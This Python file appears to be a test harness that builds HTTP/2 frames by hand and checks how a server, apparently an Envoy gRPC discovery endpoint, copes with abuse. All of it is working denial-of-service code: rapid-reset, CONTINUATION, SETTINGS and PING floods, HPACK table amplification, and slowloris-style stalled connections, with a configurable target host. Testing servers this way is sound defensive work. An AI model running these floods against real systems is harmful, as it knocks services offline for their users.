# SPDX-License-Identifier: Apache-2.0
"""Peers that do what no client does, by frames of HTTP/2 made by hand. As a program: one attack, from
an address of its own, for so many seconds; then it prints what has become of its connections, as JSON.
It imports the standard library only, and so begins at once."""
import argparse
import collections
import contextlib
import json
import os
import socket
import ssl
import struct
import threading
import time

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = \
    0, 1, 2, 3, 4, 6, 7, 8, 9
ACK = END_STREAM = 1
END_HEADERS = 4
ENHANCE_YOUR_CALM = 11
INITIAL_WINDOW = 4 # the setting
DEFAULT_WINDOW, WINDOW_MAX = 65535, 2 ** 31 - 1
FRAME_MAX = 16384
PATIENCE_S = 10
NICENESS = 5 # an attacker that is somewhere else takes no processor time of the node
ADS = '/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources'


def frame(kind, flags, stream, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes([kind, flags]) + \
        struct.pack('>I', stream) + payload


def literal(name, value, indexing=0):
    """A header field that does not go into the table of the server; with 0x40 it does."""
    def text(value):
        rest = len(value) - 127
        length = bytes([len(value)]) if rest < 0 else b'\x7f'
        while rest >= 0:
            length += bytes([rest & 127 | (128 if rest > 127 else 0)])
            rest = rest >> 7 or -1
        return length + value.encode()
    return bytes([indexing]) + text(name) + text(value)


def head(path=ADS, more=b''):
    fields = {':method': 'POST', ':scheme': 'http', ':path': path, ':authority': 'localhost',
              'content-type': 'application/grpc', 'te': 'trailers'}
    return b''.join(literal(*field) for field in fields.items()) + more


def message(payload, size=None):
    """Of gRPC; size: if it is larger than what is sent."""
    return b'\0' + struct.pack('>I', len(payload) if size is None else size) + payload


class Connection:
    """A connection, and how it has ended: 'calm' (GOAWAY with ENHANCE_YOUR_CALM), 'goaway' (with another
    code), 'closed', 'reset'; None: it has not."""

    def __init__(self, to, greets=True, buffer=None, window=WINDOW_MAX):
        self.socket = socket.socket()
        self.socket.setsockopt(socket.IPPROTO_IP, getattr(socket, 'IP_BIND_ADDRESS_NO_PORT', 24), 1)
        if buffer:
            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, buffer)
        self.socket.bind((to.source, 0))
        self.socket.settimeout(PATIENCE_S)
        self.end = self.goaway = None
        self.is_over = False # nothing more can be sent or received
        self.n_reset = 0     # streams
        self.input = b''
        self.socket.connect((to.host, to.port))
        if to.tls:
            context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
            context.set_alpn_protocols(['h2'])
            self.socket = context.wrap_socket(self.socket)
        if greets:
            self.send(PREFACE + frame(SETTINGS, 0, 0, struct.pack('>HI', INITIAL_WINDOW, window)) +
                      frame(WINDOW_UPDATE, 0, 0, struct.pack('>I', WINDOW_MAX - DEFAULT_WINDOW)))

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def finish(self, how):
        self.end = self.end or how
        self.is_over = self.is_over or how in ('closed', 'reset')

    def send(self, data):
        try:
            self.socket.settimeout(PATIENCE_S)
            self.socket.sendall(data)
        except TimeoutError:
            self.finish('stuck')
        except OSError:
            self.read()
            self.finish('reset')

    def receive(self, wait_s):
        try:
            self.socket.settimeout(wait_s)
            return self.socket.recv(65536)
        except (BlockingIOError, TimeoutError, ssl.SSLWantReadError):
            return None
        except OSError:
            self.finish('reset')
            return None

    def read(self, wait_s=0):
        """The frames that have come: type, flags, stream and payload."""
        data = self.receive(wait_s)
        if data is not None:
            self.input += data
        frames = []
        while len(self.input) >= 9:
            size = struct.unpack('>I', b'\0' + self.input[:3])[0]
            if len(self.input) < 9 + size:
                break
            kind, flags, stream = self.input[3], self.input[4], struct.unpack('>I', self.input[5:9])[0]
            frames.append((kind, flags, stream, self.input[9:9 + size]))
            self.input = self.input[9 + size:]
            self.look_at(*frames[-1])
        if data == b'':
            self.finish('closed')
        return frames

    def look_at(self, kind, flags, _, payload):
        if kind == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK, 0))
        self.n_reset += kind == RST_STREAM
        if kind == GOAWAY:
            self.goaway = struct.unpack('>I', payload[4:8])[0]
            self.finish('calm' if self.goaway == ENHANCE_YOUR_CALM else 'goaway')


# ---- floods: each yields what is to be sent next ----

def streams():
    return iter(range(1, WINDOW_MAX, 2))


def resets(_):
    """Calls that are reset as soon as they have begun."""
    ids = streams()
    while True:
        yield b''.join(frame(HEADERS, END_HEADERS, one, head()) +
                       frame(RST_STREAM, 0, one, struct.pack('>I', 8))
                       for one in (next(ids) for _ in range(50)))


def continuations(_):
    """A head that never ends, of nothing."""
    yield frame(HEADERS, 0, 1, head())
    while True:
        yield frame(CONTINUATION, 0, 1) * 100


def fields(_):
    """A head that never ends, of fields."""
    more = literal('name', 'v' * 1000)
    yield frame(HEADERS, 0, 1, head())
    while True:
        yield frame(CONTINUATION, 0, 1, more) * 16


def settings(_):
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack('>HI', INITIAL_WINDOW, WINDOW_MAX)) * 500


def pings(_):
    while True:
        yield frame(PING, 0, 0, b'whatever') * 500


def priorities(_):
    """Of streams that do not exist."""
    ids = streams()
    while True:
        yield b''.join(frame(PRIORITY, 0, next(ids), b'\0\0\0\0\1') for _ in range(500))


def nothing(_):
    """Data without a byte."""
    yield frame(HEADERS, END_HEADERS, 1, head())
    while True:
        yield frame(DATA, 0, 1) * 500


def windows(_):
    """It lets the server send one byte more, again and again."""
    yield frame(HEADERS, END_HEADERS, 1, head()) + \
        frame(SETTINGS, 0, 0, struct.pack('>HI', INITIAL_WINDOW, 0))
    while True:
        yield frame(WINDOW_UPDATE, 0, 1, struct.pack('>I', 1)) * 500


def large_heads(_):
    """Heads of 20 KiB."""
    ids = streams()
    more = literal('name', 'v' * 1000) * 10
    while True:
        one = next(ids)
        yield frame(HEADERS, 0, one, head() + more) + frame(CONTINUATION, END_HEADERS, one, more)


def tables(_):
    """Heads that refer to a large field of the table again and again: one byte each."""
    ids = streams()
    yield frame(HEADERS, END_HEADERS, next(ids), head(more=literal('name', 'v' * 4000, 0x40)))
    while True:
        yield frame(HEADERS, END_HEADERS, next(ids), head() + b'\xbe' * 16000)


def request(method, path, *more):
    """The head of a request that is none of gRPC."""
    return b''.join(literal(*field) for field in (
        (':method', method), (':scheme', 'http'), (':path', path), (':authority', 'localhost'), *more))


def strangers(_):
    """Requests that are none of gRPC."""
    ids, fields = streams(), request('GET', '/')
    while True:
        yield b''.join(frame(HEADERS, END_HEADERS | END_STREAM, next(ids), fields) for _ in range(100))


def unknown(_):
    """Calls of a method that does not exist."""
    ids = streams()
    while True:
        yield b''.join(frame(HEADERS, END_HEADERS, next(ids), head('/no.such.Service/Method'))
                       for _ in range(100))


def pages(_):
    """Requests for a page, where pages are served."""
    ids, fields = streams(), request('GET', '/ready')
    while True:
        yield b''.join(frame(HEADERS, END_HEADERS | END_STREAM, next(ids), fields) for _ in range(20))


FLOODS = {one.__name__: one for one in (
    resets, continuations, fields, settings, pings, priorities, nothing, windows, large_heads, tables,
    strangers, unknown, pages)}


def flood(make, to, results):
    """With --again, it connects again whenever it is disconnected."""
    deadline = time.monotonic() + to.seconds
    while time.monotonic() < deadline:
        try:
            connection = Connection(to)
        except OSError:
            results['not connected'] += 1
            continue
        with connection:
            for data in make(connection):
                connection.send(data)
                connection.read()
                if connection.end or time.monotonic() > deadline:
                    break
            results[connection.end or 'open'] += 1
            results['streams reset'] += connection.n_reset
        if not to.again:
            break


# ---- those that do too little ----

def hold(to, results, connections):
    """Until they have ended, or the time is over; when the last one has ended."""
    began = time.monotonic()
    left = list(connections)
    while left and time.monotonic() < began + to.seconds:
        for one in left:
            one.read()
        for one in (one for one in left if one.is_over):
            results[one.end] += 1
            results['last after'] = time.monotonic() - began
        left = [one for one in left if not one.is_over]
        time.sleep(0.02)
    results['open'] += len(left)
    results['streams reset'] += sum(one.n_reset for one in connections)


CLIENT_HELLO = bytes.fromhex('1603010200010001fc0303') + bytes(80)


def silent(to, results):
    """They never say enough to become a connection of HTTP/2."""
    begins = (b'', CLIENT_HELLO) if to.tls else (b'', PREFACE[:10], PREFACE, PREFACE + b'\0\0\6\4')
    with contextlib.ExitStack() as stack:
        plain = argparse.Namespace(**{**vars(to), 'tls': False})
        held = [stack.enter_context(Connection(plain, greets=False)) for _ in range(to.connections)]
        for i, one in enumerate(held):
            one.send(begins[i % len(begins)])
        hold(to, results, held)


def idle(to, results):
    """Connections without streams."""
    with contextlib.ExitStack() as stack:
        held = [stack.enter_context(Connection(to)) for _ in range(to.connections)]
        hold(to, results, held)


def deaf(to, results):
    """They ask for everything, and read nothing."""
    ask = frame(HEADERS, END_HEADERS, 1, head()) + frame(DATA, 0, 1, message(to.ask))
    with contextlib.ExitStack() as stack:
        for _ in range(to.connections):
            stack.enter_context(Connection(to, buffer=4096)).send(ask)
        time.sleep(to.seconds)
    results['open'] = to.connections


def sips(to, results):
    """They ask for everything, and take one byte at a time."""
    with Connection(to, window=1) as one:
        one.send(frame(HEADERS, END_HEADERS, 1, head()) + frame(DATA, 0, 1, message(to.ask)))
        deadline = time.monotonic() + to.seconds
        while not one.end and time.monotonic() < deadline:
            size = sum(len(payload) for kind, *_, payload in one.read(0.1) if kind == DATA)
            if size:
                one.send(frame(WINDOW_UPDATE, 0, 1, struct.pack('>I', 1)))
            results['bytes'] += size
        results[one.end or 'open'] += 1


def half_closed(to, results):
    """They ask for everything, send no more, and do not close; and one floods, and goes on when it is
    disconnected."""
    ask = frame(HEADERS, END_HEADERS, 1, head()) + frame(DATA, 0, 1, message(to.ask))
    with contextlib.ExitStack() as stack:
        held = [stack.enter_context(Connection(to)) for _ in range(to.connections)]
        for i, one in enumerate(held):
            one.send(ask)
            if i % 2: # of HTTP/2, else of TCP
                one.send(frame(DATA, END_STREAM, 1) + frame(GOAWAY, 0, 0, bytes(8)))
            else:
                socket.socket.shutdown(one.socket, socket.SHUT_WR)
        stubborn = stack.enter_context(Connection(to))
        deadline = time.monotonic() + to.seconds
        for data in priorities(stubborn):
            stubborn.send(data)
            stubborn.read()
            if stubborn.is_over or time.monotonic() > deadline:
                break
        results['stubborn' if stubborn.is_over else 'stubborn open'] += 1
        hold(to, results, held)


def halves(to, results):
    """Each stream sends the begin of a message, and stops."""
    size, sent, n_streams = to.message
    with contextlib.ExitStack() as stack:
        held = []
        for _ in range(to.connections):
            held.append(stack.enter_context(Connection(to)))
            for one in range(1, 2 * n_streams, 2):
                held[-1].send(frame(HEADERS, END_HEADERS, one, head()))
                data = message(bytes(sent - 5), size)
                for at in range(0, sent, FRAME_MAX):
                    held[-1].send(frame(DATA, 0, one, data[at:at + FRAME_MAX]))
                held[-1].read()
        hold(to, results, held)


def bodies(to, results):
    """As halves, with requests of REST."""
    _, sent, n_streams = to.message
    fields = request('POST', '/v1/udpa:resources', ('content-type', 'application/json'))
    with contextlib.ExitStack() as stack:
        held = []
        for _ in range(to.connections):
            held.append(stack.enter_context(Connection(to)))
            for one in range(1, 2 * n_streams, 2):
                held[-1].send(frame(HEADERS, END_HEADERS, one, fields))
                for at in range(0, sent, FRAME_MAX):
                    held[-1].send(frame(DATA, 0, one, bytes(min(FRAME_MAX, sent - at))))
                    held[-1].read()
        hold(to, results, held)


OTHERS = {one.__name__: one for one in (silent, idle, deaf, sips, half_closed, halves, bodies)}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split('\n\n', maxsplit=1)[0])
    parser.add_argument('attacks', nargs='+', choices=[*FLOODS, *OTHERS])
    parser.add_argument('--host', default='127.0.0.1')
    parser.add_argument('--port', type=int, required=True)
    parser.add_argument('--source', default='127.0.0.1')
    parser.add_argument('--tls', action='store_true')
    parser.add_argument('--again', action='store_true')
    parser.add_argument('--seconds', type=float, default=2)
    parser.add_argument('--connections', type=int, default=1)
    parser.add_argument('--ask', type=bytes.fromhex, default=b'', help='the request of a client, in hex')
    parser.add_argument('--message', type=int, nargs=3, default=(1 << 20, 1 << 15, 10),
                        help='its size, what of it is sent, and how many of them a connection has')
    to = parser.parse_args()
    os.nice(NICENESS)
    results = [collections.Counter() for _ in to.attacks]
    threads = [threading.Thread(target=flood, args=(FLOODS[name], to, result)) if name in FLOODS
               else threading.Thread(target=OTHERS[name], args=(to, result))
               for name, result in zip(to.attacks, results)]
    for one in threads:
        one.start()
    for one in threads:
        one.join()
    print(json.dumps(dict(sum(results, collections.Counter()))))


if __name__ == '__main__':
    main()
